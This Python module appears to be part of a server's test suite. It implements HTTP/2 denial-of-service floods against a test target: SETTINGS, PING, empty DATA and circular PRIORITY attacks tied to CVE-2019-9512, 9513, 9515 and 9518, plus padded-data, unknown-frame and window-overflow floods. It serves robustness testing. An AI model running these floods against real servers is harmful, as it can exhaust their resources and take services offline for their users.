"""Frames that achieve nothing, or as little as a frame can."""

from collections.abc import Iterator
from itertools import count, cycle, repeat

from tests.hostile.attacks.http2.connection import (
    POST,
    HostileConnection,
    attack_over_http2,
    headers,
    set_values,
    window_update,
)
from tests.hostile.attacks.http2.streams import FEW, LARGEST_WINDOW, STREAMS, ids
from tests.hostile.target import TargetSite
from tests.support.http2_frames import END_HEADERS, PADDED, FrameType, frame

INITIAL_WINDOW_SIZE = 4
FEW_STREAMS = 20


def _open_uploads() -> bytes:
    return b"".join(headers(2 * stream + 1, POST, END_HEADERS) for stream in range(STREAMS))


async def _repeat(target: TargetSite, frames: bytes, first: bytes = b"") -> None:
    """Send these frames without end, and read the answers."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(first)
        await connection.send_each(repeat(frames))

    await attack_over_http2(target, attack)


async def settings(target: TargetSite) -> None:
    """CVE-2019-9515: each has to be acknowledged."""
    await _repeat(target, set_values())


async def large_settings(target: TargetSite) -> None:
    """As many settings as a frame can have."""
    await _repeat(target, set_values(*[(INITIAL_WINDOW_SIZE, size) for size in range(2730)]))


async def windows_of_many_streams(target: TargetSite) -> None:
    """Another INITIAL_WINDOW_SIZE each time, which changes the windows of a hundred streams."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(_open_uploads())
        sizes = cycle(range(1000))
        await connection.send_each(set_values((INITIAL_WINDOW_SIZE, size)) for size in sizes)

    await attack_over_http2(target, attack)


async def unread_pings(target: TargetSite) -> None:
    """CVE-2019-9512: pings whose answers nobody reads."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(repeat(frame(FrameType.PING, 0, bytes(8))))

    await attack_over_http2(target, attack, reads=False)


async def empty_data(target: TargetSite) -> None:
    """CVE-2019-9518."""
    await _repeat(target, frame(FrameType.DATA, 1), headers(1, POST, END_HEADERS))


async def one_byte_data(target: TargetSite) -> None:
    """A body of one byte a frame."""
    await _repeat(target, frame(FrameType.DATA, 1, b"x"), headers(1, POST, END_HEADERS))


async def padded_data(target: TargetSite) -> None:
    """A body of one byte a frame, and as much padding as there can be."""
    padded = frame(FrameType.DATA, 1, b"\xffx" + bytes(255), PADDED)
    await _repeat(target, padded, headers(1, POST, END_HEADERS))


async def unknown_frames(target: TargetSite) -> None:
    await _repeat(target, frame(99, 1, bytes(100)))


async def window_updates(target: TargetSite) -> None:
    await _repeat(target, window_update(0, 1) + window_update(1, 1), headers(1, POST, END_HEADERS))


async def overflowing_windows(target: TargetSite) -> None:
    """Windows that are larger than they can be, of streams and of the connection."""

    async def attack(connection: HostileConnection) -> None:
        def frames() -> Iterator[bytes]:
            for stream in ids():
                yield headers(stream, POST, END_HEADERS) + window_update(stream, LARGEST_WINDOW)
                if stream > FEW_STREAMS:
                    yield window_update(0, LARGEST_WINDOW)

        await connection.send_each(frames())

    await attack_over_http2(target, attack, connections=FEW)


async def priorities(target: TargetSite) -> None:
    """CVE-2019-9513: streams that depend on each other in a circle, which turns."""

    async def attack(connection: HostileConnection) -> None:
        def on(stream: int, other: int) -> bytes:
            return frame(FrameType.PRIORITY, stream, other.to_bytes(4) + b"\xff")

        await connection.send(_open_uploads())
        await connection.send_each(
            on(turn % 50 * 2 + 1, turn % 49 * 2 + 101) + on(turn % 49 * 2 + 101, turn % 50 * 2 + 1)
            for turn in count()
        )

    await attack_over_http2(target, attack)
